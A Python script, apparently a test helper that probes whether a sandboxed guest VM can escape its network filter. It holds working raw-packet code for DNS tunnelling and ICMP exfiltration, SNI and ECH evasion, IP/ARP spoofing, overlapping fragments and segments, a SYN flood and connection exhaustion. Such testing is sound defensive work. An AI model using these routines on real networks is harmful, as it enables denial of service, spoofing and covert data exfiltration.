"""What a machine in the wrong hands tries. Each command prints what came of it, for a test to read."""
import errno, os, socket, ssl, struct, sys, time

GUEST, GATEWAY = "10.213.0.2", "10.213.0.1"
GATEWAY_MAC = bytes.fromhex("525400be1101")
OWN_MAC = bytes.fromhex(open("/sys/class/net/eth0/address").read().strip().replace(":", ""))
PATIENCE = 60


def outcome(act):
    try:
        return act()
    except (TimeoutError, BlockingIOError):
        return "silent"
    except socket.gaierror as e:
        return "no such name: %d" % e.errno
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e))


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ip(source, target, protocol, payload, fragment=0):
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), 7, fragment, 64, protocol, 0)
    ends = socket.inet_aton(source) + socket.inet_aton(target)
    return head[:10] + struct.pack("!H", checksum(head + ends)) + ends + payload


def segment(source, target, local, port, seq, ack, flags, payload=b""):
    head = struct.pack("!HHIIBBHHH", local, port, seq, ack, 0x50, flags, 64000, 0, 0)
    length = len(head) + len(payload)
    pseudo = socket.inet_aton(source) + socket.inet_aton(target) + struct.pack("!BBH", 0, 6, length)
    return head[:16] + struct.pack("!H", checksum(pseudo + head + payload)) + head[18:] + payload


def syn(source, target, port, local=40000):
    return segment(source, target, local, port, 1000, 0, 2)


def ethernet(kind, payload, source=OWN_MAC):
    return GATEWAY_MAC + source + struct.pack("!H", kind) + payload


def wire(heard=0):
    card = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    card.bind(("eth0", heard))
    return card


def send(*frames):
    card = wire()
    for frame in frames:
        card.send(frame)
    return "sent %d" % len(frames)


def tcp(host, port):
    family, kind, protocol, _, where = socket.getaddrinfo(host, int(port), type=socket.SOCK_STREAM)[0]
    with socket.socket(family, kind, protocol) as s:
        s.settimeout(PATIENCE)
        s.connect(where)
        return "connected"


def rebind(name, port):
    """Connects to a name that leads elsewhere than when it was first looked up, its answer's second being over."""
    first = socket.gethostbyname(name)
    time.sleep(3)
    return "%s, then %s" % (first, outcome(lambda: tcp(name, port)))


def udp(host, port, payload="00"):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(PATIENCE)
        s.connect((host, int(port)))
        s.send(bytes.fromhex(payload))
        return "got %d" % len(s.recv(1000))


def question(name):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + struct.pack("!BHH", 0, 1, 1)


def dns(server, name):
    return udp(server, 53, question(name).hex())


def tunnel(suffix, count):
    answered = refused = 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(PATIENCE)
        s.connect((GATEWAY, 53))
        for i in range(int(count)):
            s.send(question("secret%d.%s" % (i, suffix)))
            code = s.recv(1000)[3] & 15
            refused += code == 5
            answered += code != 5
    return "answered %d refused %d" % (answered, refused)


def ping(host):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as s:
        s.settimeout(PATIENCE)
        head = struct.pack("!BBHHH", 8, 0, 0, 7, 1) + b"a secret to carry out"
        s.sendto(head[:2] + struct.pack("!H", checksum(head)) + head[4:], (host, 0))
        return "type %d" % s.recv(1000)[20]


def hello(name):
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    client = context.wrap_bio(incoming, outgoing, server_hostname=name)
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def hiding(plain):
    """The same hello with another one in it, encrypted (ECH), as far as anybody but its server can tell."""
    inner = struct.pack("!BHHBH", 0, 1, 1, 7, 32) + os.urandom(32) + struct.pack("!H", 144) + os.urandom(144)
    more = struct.pack("!HH", 0xFE0D, len(inner)) + inner
    message = plain[9:]
    at = 34
    at += 1 + message[at]
    at += 2 + struct.unpack("!H", message[at : at + 2])[0]
    at += 1 + message[at]
    extensions = more + message[at + 2 :]
    message = message[:at] + struct.pack("!H", len(extensions)) + extensions
    message = struct.pack("!I", 1 << 24 | len(message)) + message
    return plain[:3] + struct.pack("!H", len(message)) + message


def said(host, port, payload):
    with socket.create_connection((host, int(port)), PATIENCE) as s:
        s.sendall(payload)
        answer = s.recv(1000)
        return "got %d" % len(answer) if answer else "closed"


def sni(host, port, name, ending=""):
    last = {"": b"", "dot": b".", "percent": b"%", "nul": b"\0"}[ending]
    return said(host, port, hello(name + "X" * len(last)).replace(b"X" * len(last), last, 1))


def ech(host, port, name):
    return said(host, port, hiding(hello(name)))


def behind(host, port, first, name=""):
    """A hello behind other bytes, or those alone; each of the first ones in a segment of its own."""
    with socket.create_connection((host, int(port)), PATIENCE) as s:
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for byte in bytes.fromhex(first):
            s.sendall(bytes([byte]))
            time.sleep(0.01)
        if name:
            s.sendall(hello(name))
        answer = s.recv(1000)
        return "got %d" % len(answer) if answer else "closed"


def http(host, port, text):
    return said(host, port, text.encode().decode("unicode_escape").encode())


def upload(host, port, count):
    with socket.create_connection((host, int(port)), PATIENCE) as s:
        # Not letters: those could be the beginning of a method, and are judged as if they hid a name.
        s.sendall(b"\0" * int(count))
        s.shutdown(socket.SHUT_WR)
        return "got %d" % len(s.recv(1000))


def ipv6():
    target = socket.inet_pton(socket.AF_INET6, "2606:4700:4700::1111")
    source = socket.inet_pton(socket.AF_INET6, "fe80::5054:ff:febe:1102")
    return send(ethernet(0x86DD, struct.pack("!IHBB", 6 << 28, 20, 6, 64) + source + target + syn(GUEST, "1.1.1.1", 443)))


def spoof(target, port):
    port = int(port)
    other = "10.213.0.9"
    claim = struct.pack("!HHBBH", 1, 0x800, 6, 4, 2) + OWN_MAC + socket.inet_aton(GATEWAY) + OWN_MAC + socket.inet_aton(GUEST)
    return send(
        ethernet(0x800, ip(other, target, 6, syn(other, target, port))),
        ethernet(0x800, ip(GUEST, target, 6, syn(GUEST, target, port)), bytes.fromhex("525400badbad")),
        ethernet(0x806, claim),
    )


def fragments(target, port):
    whole = syn(GUEST, target, int(port))
    more = 0x2000
    return send(
        ethernet(0x800, ip(GUEST, target, 6, whole[:8], more)),
        ethernet(0x800, ip(GUEST, target, 6, whole[8:], 1)),
        # The same place twice, with something else in it.
        ethernet(0x800, ip(GUEST, target, 6, b"\0" * 16, more)),
        ethernet(0x800, ip(GUEST, target, 6, whole, more)),
    )


def overlapping(target, port):
    """Says the same places of a stream twice, otherwise the second time: within what was taken, and ahead of it."""
    port, every_kind = int(port), 3
    card = wire(every_kind)
    with socket.create_connection((target, port), PATIENCE) as s:
        local = s.getsockname()[1]
        s.sendall(b"\0first")
        while True:
            frame = card.recv(2000)
            if len(frame) >= 60 and frame[23] == 6 and struct.unpack("!HH", frame[34:38]) == (local, port) and b"\0first" in frame:
                break
        seq, ack = struct.unpack("!II", frame[38:46])
        for at, text in ((2, b"XXXX+new"), (14, b"late"), (10, b"gap!XXXX"), (0, b"XXXXXX")):
            card.send(ethernet(0x800, ip(GUEST, target, 6, segment(GUEST, target, local, port, seq + at & 0xFFFFFFFF, ack, 0x18, text))))
        time.sleep(3)
    return "sent"


def flood(target, count):
    card = wire()
    frame = bytearray(ethernet(0x800, ip(GUEST, target, 6, syn(GUEST, target, 443, 1))))
    base = checksum(bytes(2) + struct.pack("!H", struct.unpack("!H", frame[50:52])[0]))
    sent = 0
    for i in range(int(count)):
        local = 1 + i % 65000
        total = base + local - 1
        total = (total & 0xFFFF) + (total >> 16)
        struct.pack_into("!H", frame, 34, local)
        struct.pack_into("!H", frame, 50, ~total & 0xFFFF)
        try:
            card.send(frame)
            sent += 1
        except OSError:
            time.sleep(0.001)
    return "sent %d" % sent


def slow(host, port, many):
    held = [socket.create_connection((host, int(port)), PATIENCE) for _ in range(int(many))]
    for s in held:
        s.sendall(b"pour\n")
    time.sleep(6)
    return "held %d" % len(held)


def spelled(port, *addresses):
    return "\n".join("%s %s" % (address, outcome(lambda: tcp(address, port))) for address in addresses)


if __name__ == "__main__":
    print(outcome(lambda: globals()[sys.argv[1]](*sys.argv[2:])))
